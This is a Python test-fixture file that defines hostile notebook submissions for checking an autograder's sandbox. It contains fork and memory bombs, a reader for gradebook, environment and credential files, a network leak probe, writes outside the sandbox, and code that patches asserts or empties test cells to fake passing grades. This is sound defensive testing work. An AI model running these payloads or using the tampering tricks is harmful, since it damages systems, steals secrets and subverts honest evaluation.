"""Hostile and broken submissions, one student each, for tests/test_adversarial.py.

Each `Attack` says what it attacks, how its submission is built (`build` returns the files of
submitted/<student>/math_numpy/), the status coursekit.grading.batch.statuses must give the attacked
notebook, and which exercises of that notebook must score 0 (`zero`) or keep full marks (`keep`;
`keep_if_alive` only while the kernel survives; `load_dependent` exercises run while the attack
still loads the machine, so a cell timeout may cost them points in one run and not in another).
Attacks target 02_matrix_operations (8 exercises, 35 points, fast); every exercise they do not attack holds the instructor's solution, and every
attacked exercise holds an attack or a wrong answer, so "scores 0 there" means the attack earned
nothing.  Nothing here runs on the host: attack code is only text put into notebooks, which run
inside the grading sandbox.
"""

import copy
import dataclasses
import textwrap
from typing import Callable

import nbformat

from coursekit import notebooks
from coursekit.spec import EXERCISES as SPEC

NB = "02_matrix_operations"
EXERCISES = SPEC[NB]  # in teaching order: "after" an exercise means the cells that run later

# Wrong answers that fail every test cell of their exercise with ordinary check failures (values,
# not errors), so that tampering with the checks would pay off if it worked.  The `wrong` control
# student proves each scores 0 untampered.
WRONG = {
    "scale": "def scale(a, s):\n    return a",
    "transpose": "def transpose(a):\n    return a",
    "matrix_add": "def matrix_add(a, b):\n    return a",
    "product_shape": "def product_shape(shape_a, shape_b):\n    return tuple(shape_a)",
    "matmul_loops": "def matmul_loops(a, b):\n    return np.ones((1, 1)) @ np.ones((1, 1))",
    "commutes": "def commutes(a, b):\n    return None",
    "matrix_subtract": "def matrix_subtract(a, b):\n    return a",
    "is_solution": "def is_solution(a, x, b):\n    return True",
}
assert set(WRONG) == set(EXERCISES), "a wrong answer for every exercise of the attacked notebook"


@dataclasses.dataclass
class Context:
    """What the builders need: the release, the reference solutions and the test's secrets."""
    release: dict       # notebook -> release NotebookNode
    solutions: dict     # notebook -> {grade_id: reference solution}
    course: str         # absolute path of the scratch course
    port: int           # the test's TCP listener on 127.0.0.1
    tag: str            # unique name for files the attacks try to create


@dataclasses.dataclass(frozen=True)
class Attack:
    student: str
    attacks: str                      # what it attacks
    how: str                          # how the submission is built
    build: Callable                   # Context -> {file name: bytes}
    states: tuple                     # acceptable states of the attacked notebook (02)
    reason: str = ""                  # text the status detail must contain
    zero: tuple = ()                  # exercises of 02 that must score 0
    keep: tuple = ()                  # exercises of 02 that must keep full marks
    keep_if_alive: tuple = ()         # ... as long as the kernel survived (state not "stopped")
    load_dependent: tuple = ()        # exercises whose score depends on the machine's load
    others: tuple = (("01_derivatives_and_gradients", "missing"), ("03_numpy_essentials", "missing"))
    known_limit: str = ""             # set: the attack is known to succeed (documented limit)

    def expected_others(self):
        return dict(self.others)


# ---------------------------------------------------------------- building blocks


def filled(ctx, answers=None, nb=NB, edit=None):
    """The release notebook with reference solutions, `answers` replacing some; `edit` mutates it."""
    node = notebooks.filled_in(ctx.release[nb], {**ctx.solutions[nb], **(answers or {})})
    node = copy.deepcopy(node)
    if edit:
        edit(node)
    return nbformat.writes(node).encode()


def one(ctx, answers=None, edit=None, name=f"{NB}.ipynb"):
    return {name: filled(ctx, answers, edit=edit)}


def code_cell(source):
    return nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))


def index_of(node, grade_id):
    return next(i for i, c in enumerate(node.cells) if notebooks.grade_id(c) == grade_id)


def after_setup(*cells):
    """An edit that inserts plain (metadata-free) cells right after the setup cell."""
    def edit(node):
        at = index_of(node, "setup") + 1
        node.cells[at:at] = [code_cell(c) for c in cells]
    return edit


def test_ids(node, exercise):
    return [notebooks.grade_id(c) for c in node.cells
            if notebooks.is_test(c) and notebooks.grade_id(c).startswith(exercise + "_")]


def after(exercise):
    return tuple(EXERCISES[EXERCISES.index(exercise) + 1:])


def before(exercise):
    return tuple(EXERCISES[:EXERCISES.index(exercise)])


def but(*exercises):
    return tuple(e for e in EXERCISES if e not in exercises)


# ---------------------------------------------------------------- attack code (runs in the sandbox)

INFINITE_LOOP = """
def transpose(a):
    while True:
        pass
"""

SWALLOW_INTERRUPT = """
def transpose(a):
    while True:
        try:
            while True:
                pass
        except KeyboardInterrupt:
            pass
transpose(None)
"""

# 100 GB at once fails cleanly (MemoryError); the growing list fills the address space, and its
# traceback keeps it full, so the kernel may die at the next cells: it is the last exercise, so
# where exactly it dies changes no score (grading again must give the same grades).
MEMORY_BOMBS = {
    "product_shape": """
def product_shape(shape_a, shape_b):
    return bytearray(10**11)
""",
    "commutes": """
def commutes(a, b):
    hog = []
    while True:
        hog.append(bytearray(2**24))
""",
}

FORK_BOMB = """
import os

def bomb():
    try:
        while True:
            if os.fork() == 0:
                try:
                    while True:
                        os.fork()
                except BaseException:
                    pass
                while True:
                    pass
    except OSError as error:
        print("fork refused:", error)

bomb()
"""

OUTPUT_LOOP = """
for i in range(10**9):
    print(i, "flood " * 20)
"""

OUTPUT_BLOB = 'print("x" * 50_000_000)'

ERROR_BLOB = 'raise ValueError("x" * 5_000_000)'

SEGFAULT = "import ctypes\nctypes.string_at(0)"

ALWAYS_EQUAL = {
    "transpose": """
class Yes:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__

def transpose(a):
    return Yes()
""",
    "matrix_add": """
class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array_ufunc__(self, *args, **kwargs):
        return True
    def __bool__(self):
        return True
    __hash__ = object.__hash__

def matrix_add(a, b):
    return np.zeros(np.shape(a)).view(Liar)
""",
}

PATCH_ASSERTS = """
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
import builtins
builtins.AssertionError = type("Nope", (Exception,), {})
"""

HIDE_ERRORS = """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
ip.showtraceback = lambda *args, **kwargs: None
import sys
sys.excepthook = lambda *args: None
sys.stderr = sys.stdout
"""

REBIND_CHECKS = """
expect_array = expect_bool = expect_value = call_unchanged = lambda *a, **k: None
"""

SKIP_TESTS = """
def _drop_tests(lines):
    return [] if lines and lines[0].startswith('\"\"\"Check') else lines
get_ipython().input_transformers_cleanup.append(_drop_tests)
"""


def read_secrets(ctx):
    course = ctx.course
    return f'''
import glob, os
found = []
targets = [
    {course!r} + "/source/math_numpy/02_matrix_operations.ipynb",
    {course!r} + "/source/math_numpy/checks.py",
    {course!r} + "/source/CANARY.txt",
    {course!r} + "/CANARY.txt",
    {course!r} + "/gradebook.db",
    {course!r} + "/submitted/reference/math_numpy/02_matrix_operations.ipynb",
    {course!r} + "/autograded/reference/math_numpy/02_matrix_operations.ipynb",
    "../../../source/math_numpy/02_matrix_operations.ipynb",
    "../../../source/CANARY.txt",
    "../../../CANARY.txt",
    "../../../gradebook.db",
    "../../../submitted/reference/math_numpy/02_matrix_operations.ipynb",
    "../reference/math_numpy/02_matrix_operations.ipynb",
    "/work/main/source/math_numpy/02_matrix_operations.ipynb",
    "/work/main/gradebook.db",
    "/proc/1/environ",
    "/proc/self/environ",
    "/run/kernel/connection.json",
]
for top in ["/tmp", "/work", "/root", "/home", "/run", "/srv", "/opt", "/var"]:
    for pattern in ["/**/CANARY*", "/**/gradebook.db", "/**/source/math_numpy/*.ipynb"]:
        targets += glob.glob(top + pattern, recursive=True)
for path in targets:
    try:
        with open(path, "rb") as f:
            data = f.read(3000)
        print("READ", path, repr(data))
    except Exception as error:
        print("DENIED", path, type(error).__name__)
print("ENV", dict(os.environ))
for top in ["/", "/tmp", "..", "../..", "../../..", "/work", "/root", "/home"]:
    try:
        print("LIST", top, sorted(os.listdir(top))[:50])
    except Exception as error:
        print("DENIED", top, type(error).__name__)
'''


def network(ctx):
    return f'''
import socket
for host in ["127.0.0.1", "localhost", "::1", "10.0.2.2", "8.8.8.8"]:
    try:
        s = socket.create_connection((host, {ctx.port}), timeout=1)
        s.sendall(b"leak")
        print("CONNECTED", host)
    except Exception as error:
        print("NO NETWORK", host, type(error).__name__, error)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"leak", ("127.0.0.1", {ctx.port}))
    print("UDP sent (to the sandbox's own loopback)")
except Exception as error:
    print("NO UDP", type(error).__name__, error)
'''


def write_targets(ctx):
    """Host paths the write-outside attack tries to create (checked on the host afterwards)."""
    c, t = ctx.course, ctx.tag
    return [f"{c}/PWNED-{t}", f"{c}/source/math_numpy/PWNED-{t}", f"{c}/submitted/PWNED-{t}",
            f"/tmp/PWNED-{t}", f"/tmp/math-numpy-kernels/PWNED-{t}", f"/work/main/PWNED-{t}",
            f"{c}/autograded/atk-write-outside/math_numpy/PWNED-{t}"]


def write_outside(ctx):
    t = ctx.tag
    return f'''
import os
targets = {write_targets(ctx)!r} + [
    "../../../PWNED-{t}", "../../PWNED-{t}", "../PWNED-{t}", "./PWNED-{t}",
    "../../../submitted/reference/math_numpy/02_matrix_operations.ipynb", "checks.py",
]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("pwned")
        print("WROTE", path)
    except Exception as error:
        print("BLOCKED", path, type(error).__name__)
for folder in ["/tmp/math-numpy-kernels", "/run/kernel", "/tmp", "."]:
    try:
        for name in os.listdir(folder):
            print("SEES", folder, name)
    except Exception as error:
        print("BLOCKED list", folder, type(error).__name__)
# Fill every writable folder: all of it must be size-limited memory, never the grader's disk.
for folder in ["/tmp/math-numpy-kernels", "/run/kernel", "/tmp", "."]:
    written = 0
    try:
        for k in range(4):
            with open(f"{{folder}}/fill-{t}-{{k}}", "wb") as f:
                for _ in range(60):
                    f.write(bytes(2**20))
                    written += 1
    except Exception as error:
        pass
    print("FILLED", folder, written, "MiB")
'''


# ---------------------------------------------------------------- file-level cases


def truncated(ctx):
    data = filled(ctx)
    return {f"{NB}.ipynb": data[: len(data) // 2]}


def duplicate(ctx):
    def edit(node):
        at = index_of(node, "scale_values")
        fake = copy.deepcopy(node.cells[at])
        fake.source = "pass"
        node.cells.insert(at, fake)
        sol = index_of(node, "transpose")
        node.cells.insert(sol + 1, copy.deepcopy(node.cells[sol]))
    return one(ctx, {"scale": WRONG["scale"], "transpose": WRONG["transpose"]}, edit)


def delete_tests(ctx):
    def edit(node):
        node.cells = [c for c in node.cells if not notebooks.grade_id(c) or not
                      (notebooks.is_test(c) and notebooks.grade_id(c).startswith("scale_"))]
    return one(ctx, {"scale": WRONG["scale"]}, edit)


def edit_tests(ctx):
    def edit(node):
        ids = test_ids(node, "transpose")
        node.cells[index_of(node, ids[0])].source = "pass"
        node.cells[index_of(node, ids[1])].source = "assert True"
    return one(ctx, {"transpose": WRONG["transpose"]}, edit)


def metadata(ctx):
    def edit(node):
        for gid in test_ids(node, "scale"):
            node.cells[index_of(node, gid)].metadata.nbgrader["points"] = 100
        first, second = test_ids(node, "transpose")
        node.cells[index_of(node, first)].metadata.nbgrader["grade"] = False
        node.cells[index_of(node, second)].metadata.nbgrader.update(grade=False, solution=True, locked=False)
        for gid in test_ids(node, "matrix_add"):
            node.cells[index_of(node, gid)].metadata.nbgrader.update(solution=True, locked=False)
        for gid in test_ids(node, "product_shape"):
            i = index_of(node, gid)
            node.cells[i] = nbformat.v4.new_markdown_cell(node.cells[i].source, metadata=node.cells[i].metadata)
        sol = node.cells[index_of(node, "matmul_loops")]
        sol.metadata.nbgrader.update(grade=True, points=50)
    wrong = {e: WRONG[e] for e in ("scale", "transpose", "matrix_add", "product_shape")}
    return one(ctx, wrong, edit)


def reader(ctx):
    """The untouched release with the secret reader in the scale cell and in an added cell."""
    node = copy.deepcopy(ctx.release[NB])
    at = index_of(node, "scale")
    node.cells[at].source = read_secrets(ctx)
    node.cells.insert(index_of(node, "setup") + 1, code_cell(read_secrets(ctx)))
    return {f"{NB}.ipynb": nbformat.writes(node).encode()}


def missing(ctx):
    return {f"{nb}.ipynb": filled(ctx, nb=nb) for nb in ("01_derivatives_and_gradients", "03_numpy_essentials")}


# ---------------------------------------------------------------- the cases

ATTACKS = [
    Attack("atk-infinite-loop", "per-cell time limit",
           "transpose() loops forever (interruptible)",
           lambda ctx: one(ctx, {"transpose": INFINITE_LOOP}),
           ("timed out",), "transpose_", zero=("transpose",), keep=but("transpose")),
    Attack("atk-swallow-interrupt", "notebook time limit",
           "the transpose cell loops forever and swallows KeyboardInterrupt",
           lambda ctx: one(ctx, {"transpose": SWALLOW_INTERRUPT}),
           ("stopped",), "time limit", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-memory-bomb", "memory limit (RLIMIT_AS)",
           "product_shape() allocates 100 GB; commutes() grows a list of 16 MiB blocks",
           lambda ctx: one(ctx, MEMORY_BOMBS),
           ("graded", "stopped"), "", zero=("product_shape", "commutes"), keep=but("product_shape", "commutes")),
    Attack("atk-fork-bomb", "process limit (RLIMIT_NPROC)",
           "the commutes cell forks until refused; children fork again, then spin",
           lambda ctx: one(ctx, {"commutes": FORK_BOMB}),
           ("graded", "timed out", "stopped"), "", zero=("commutes",), keep=before("commutes"),
           # The bomb's children spin until the notebook ends: later cells may hit their timeout.
           load_dependent=after("commutes")),
    Attack("atk-output-loop", "output limit",
           "the transpose cell prints in an endless loop",
           lambda ctx: one(ctx, {"transpose": OUTPUT_LOOP}),
           ("stopped",), "printed more than", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-output-blob", "output limit",
           "the transpose cell prints one 50 MB string",
           lambda ctx: one(ctx, {"transpose": OUTPUT_BLOB}),
           ("stopped",), "printed more than", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-error-blob", "output limit (error path)",
           "the transpose cell raises an error whose message is 5 MB",
           lambda ctx: one(ctx, {"transpose": ERROR_BLOB}),
           ("stopped",), "printed more than", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-sys-exit", "kernel exit",
           "sys.exit() at top level of the transpose cell",
           lambda ctx: one(ctx, {"transpose": "import sys\nsys.exit()"}),
           ("graded", "stopped"), "", zero=("transpose",), keep=("scale",), keep_if_alive=after("transpose")),
    Attack("atk-os-exit", "kernel exit",
           "os._exit(0) in the transpose cell",
           lambda ctx: one(ctx, {"transpose": "import os\nos._exit(0)"}),
           ("stopped",), "exited", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-segfault", "kernel crash",
           "ctypes.string_at(0) in the transpose cell",
           lambda ctx: one(ctx, {"transpose": SEGFAULT}),
           ("stopped",), "segmentation fault", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-kill-all", "signals to other processes",
           "os.kill(-1, SIGKILL) in the transpose cell: kill everything it can",
           lambda ctx: one(ctx, {"transpose": "import os, signal\nos.kill(-1, signal.SIGKILL)"}),
           ("graded", "stopped"), "", zero=("transpose",), keep=("scale",), keep_if_alive=after("transpose")),
    Attack("atk-delete-tests", "test cells",
           "wrong scale(); both scale test cells deleted",
           delete_tests, ("graded",), "", zero=("scale",), keep=but("scale")),
    Attack("atk-edit-tests", "locked test cells",
           "wrong transpose(); its test cells edited to `pass` and `assert True`",
           edit_tests, ("graded",), "", zero=("transpose",), keep=but("transpose")),
    Attack("atk-metadata", "cell metadata",
           "wrong scale/transpose/matrix_add/product_shape; their test cells get points 100, grade "
           "False, solution True, or become markdown; a solution cell becomes a 50-point grade cell",
           metadata, ("graded",), "", zero=("scale", "transpose", "matrix_add", "product_shape"),
           keep=("matmul_loops", "commutes")),
    Attack("atk-duplicate", "duplicate grade ids",
           "wrong scale/transpose; a copy of scale_values (source `pass`) and of the transpose "
           "solution cell, same grade_ids",
           duplicate, ("graded", "not graded"), "", zero=("scale", "transpose")),
    Attack("atk-patch-asserts", "test machinery (numpy.testing, AssertionError)",
           "added cell patches numpy.testing, np.allclose and builtins.AssertionError; wrong scale() "
           "(the patched np.allclose also breaks the student's own commutes() and is_solution())",
           lambda ctx: one(ctx, {"scale": WRONG["scale"]}, after_setup(PATCH_ASSERTS)),
           ("graded",), "", zero=("scale",), keep=but("scale", "commutes", "is_solution")),
    Attack("atk-hide-errors", "error reporting",
           "added cell installs a custom exception handler, silences showtraceback and stderr; "
           "wrong scale()",
           lambda ctx: one(ctx, {"scale": WRONG["scale"]}, after_setup(HIDE_ERRORS)),
           ("graded",), "", zero=("scale",), keep=but("scale")),
    Attack("atk-always-equal", "value comparison",
           "transpose() returns an object equal to everything; matrix_add() an ndarray subclass "
           "with lying __eq__ and ufuncs",
           lambda ctx: one(ctx, ALWAYS_EQUAL),
           ("graded",), "", zero=("transpose", "matrix_add"), keep=but("transpose", "matrix_add")),
    Attack("atk-read-secrets", "confidentiality (source, gradebook, canaries, env, other students)",
           "untouched release; scale cell and an added cell open and print the instructor's files",
           reader, ("graded",), "", zero=tuple(EXERCISES)),
    Attack("atk-network", "network",
           "the scale cell connects to the test's TCP listener on 127.0.0.1 and beyond",
           lambda ctx: one(ctx, {"scale": network(ctx)}),
           ("graded",), "", zero=("scale",), keep=but("scale")),
    Attack("atk-write-outside", "the grader's file system",
           "the scale cell writes to the course, submitted/, /tmp, the kernels' socket folder "
           "and checks.py, and fills every writable folder",
           lambda ctx: one(ctx, {"scale": write_outside(ctx)}),
           ("graded",), "", zero=("scale",), keep=but("scale")),
    Attack("atk-corrupt-json", "notebook file", "02 truncated to half its JSON",
           truncated, ("unreadable",), "not a notebook", zero=tuple(EXERCISES)),
    Attack("atk-missing-notebook", "notebook file", "submits 01 and 03 (reference) but no 02",
           missing, ("missing",), "", zero=tuple(EXERCISES),
           others=(("01_derivatives_and_gradients", "graded"), ("03_numpy_essentials", "graded"))),
    Attack("atk-wrong-name", "notebook file", "02 (reference) saved as `02_matrix_operations (1).ipynb`",
           lambda ctx: one(ctx, name=f"{NB} (1).ipynb"), ("missing",), "", zero=tuple(EXERCISES)),
    Attack("atk-binary", "notebook file", "02 is 64 KiB of binary garbage",
           lambda ctx: {f"{NB}.ipynb": bytes(range(256)) * 256}, ("unreadable",), "not a notebook",
           zero=tuple(EXERCISES)),
    Attack("atk-empty", "notebook file", "02 is an empty file",
           lambda ctx: {f"{NB}.ipynb": b""}, ("unreadable",), "not a notebook", zero=tuple(EXERCISES)),
    # In-kernel tampering: student code runs in the same interpreter as the test cells, so it can
    # rebind the names the tests call or rewrite the test cells' source before they run.  No
    # sandbox can tell that from honest code at run time (README, "Grading safely"); the static
    # scan (coursekit/grading/scan/) flags it for review.  Kept here so the table shows it.
    Attack("atk-rebind-checks", "test helpers in the notebook namespace",
           "added cell rebinds expect_array, call_unchanged, ... to no-ops; wrong scale()",
           lambda ctx: one(ctx, {"scale": WRONG["scale"]}, after_setup(REBIND_CHECKS)),
           ("graded",), "", zero=("scale",), keep=but("scale"),
           known_limit="in-kernel tampering: rebinding the check helpers fools the tests"),
    Attack("atk-skip-tests", "test cell source at run time",
           "added cell registers an IPython input transformer that empties every test cell; wrong scale()",
           lambda ctx: one(ctx, {"scale": WRONG["scale"]}, after_setup(SKIP_TESTS)),
           ("graded",), "", zero=("scale",),
           known_limit="in-kernel tampering: an input transformer removes the tests before they run"),
]

BY_STUDENT = {a.student: a for a in ATTACKS}
assert len(BY_STUDENT) == len(ATTACKS)


def describe():
    """The case table (what each case attacks and how), as text."""
    return "\n".join(f"{a.student:24} {a.attacks:40} {a.how}" for a in ATTACKS)
